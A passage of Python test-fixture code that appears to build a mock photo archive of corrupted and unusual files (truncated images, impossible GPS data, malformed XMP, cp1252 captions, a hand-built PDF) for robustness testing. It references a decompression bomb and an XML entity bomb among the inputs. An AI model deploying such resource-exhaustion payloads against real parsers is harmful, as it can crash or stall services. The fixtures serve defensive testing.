    return metadata.with_segments(metadata.without_metadata(jpeg), [(0xE1, block.tobytes())])


def bad_place(jpeg: bytes) -> bytes:
    """Return a JPEG taken at 97 degrees north, 612 degrees east."""
    return captioned(jpeg, carriers=("exif",), place=(97.5, 612.25, 99_000.0))


BROKEN: dict[str, Callable[[bytes], bytes]] = {
    "Incoming/upload/IMG_0107.JPG": lambda jpeg: jpeg[: len(jpeg) * 3 // 5],
    "Incoming/upload/IMG_0108.JPG": lambda jpeg: jpeg[:900],
    "Incoming/upload/empty.jpg": lambda jpeg: b"",
    "Incoming/upload/404.jpg": lambda jpeg: b"<!DOCTYPE html><title>404 Not Found</title><h1>Not Found</h1>\n",
    "Incoming/upload/half.png": lambda jpeg: half_png(jpeg),
    "Archive/Glass plates/Plate 0099.tif": lambda jpeg: b"II*\0" + struct.pack("<I", 1 << 30) + bytes(4000),
    "Incoming/upload/poster_final.png": lambda jpeg: bomb(),
    "Incoming/upload/export (7).png": lambda jpeg: endless_text(),
    "From agency/entities.jpg": entity_bomb,
    "From agency/unclosed.jpg": lambda jpeg: with_xmp(jpeg, metadata.packet("<dc:title><rdf:Alt>").decode()),
    "From agency/nested.jpg": lambda jpeg: with_xmp(jpeg, metadata.packet("<rdf:li>" * 4000).decode()),
    "From agency/Straßenfest.jpg": lambda jpeg: captioned(
        jpeg, title={"de": "Straßenfest"}, creator="Jürgen Groß", charset="cp1252", carriers=("iptc",)
    ),
    "Claims/2025-03/IMG_5511.jpg": bad_place,
    "Claims/2025-03/IMG_5512.jpg": bad_date,
}
"""Path → how the damage is done, from the bytes of a good JPEG."""


def half_png(jpeg: bytes) -> bytes:
    """Return the first half of a PNG."""
    whole = metadata.encode(opened(jpeg), "PNG", None)
    return whole[: len(whole) // 2]


def pdf(jpeg: bytes) -> bytes:
    """Return a PDF of one page that shows the JPEG, as office scanners make them."""
    with Image.open(io.BytesIO(jpeg)) as image:
        wide, high = image.size
    drawn = f"q {wide} 0 0 {high} 0 0 cm /I Do Q".encode()
    picture = f"/Type/XObject/Subtype/Image/Width {wide}/Height {high}/ColorSpace/DeviceRGB/BitsPerComponent 8"
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 %d %d]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>>>"
        % (wide, high),
        b"<</Length %d>>stream\n%s\nendstream" % (len(drawn), drawn),
        f"<<{picture}/Filter/DCTDecode/Length {len(jpeg)}>>stream\n".encode() + jpeg + b"\nendstream",
    ]
    out, places = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj" % number + content + b"endobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + table
    return out + end + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(out))


def sidecar(jpeg: bytes) -> bytes:
    """Return an XMP sidecar."""
    return metadata.xmp(Caption(title={"en": "From the sidecar"}, keywords=["sidecar"], rating=4))


NOTE = """Dear all,

please find the pictures of this spring. Shoes and bags are final, lamps are NOT.
The folder "upload" is what came in by the web form; nobody has looked at it.
Liebe Grüße, Zoë
"""

OTHERS: dict[str, Callable[[bytes], bytes]] = {
    "Catalogue 2025/Thumbs.db": lambda jpeg: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(1016),
    "READ ME first.txt": lambda jpeg: NOTE.encode(),
    "Claims/2025-03/Scan 2025-03-14.pdf": pdf,
    "Incoming/2025-04 Lisboa/IMG_0040.xmp": sidecar,
    "Catalogue 2025/desktop.ini": lambda jpeg: b"[.ShellClassInfo]\r\nIconIndex=0\r\n",
    "Catalogue 2025/prices.csv": lambda jpeg: b"number;name;price\nSH-10200;Sneaker;89,00\n",
}
"""Path → the content of a file that isn't an image."""


def odd_files(seed: int) -> Iterator[tuple[str, bytes]]:
    """Yield the broken files and the other ones, with their paths; none shows a picture that is elsewhere too."""
    for number, (path, spoil) in enumerate((BROKEN | OTHERS).items()):
        if path.endswith(".pdf"):
            picture = write("letter", "en", seed, 99_000, (1,), "JPEG")[0]
        else:
            picture = view("sea", seed, 20_000_000 + number)[0]
        yield path, spoil(metadata.encode(picture, "JPEG", None, quality=85))
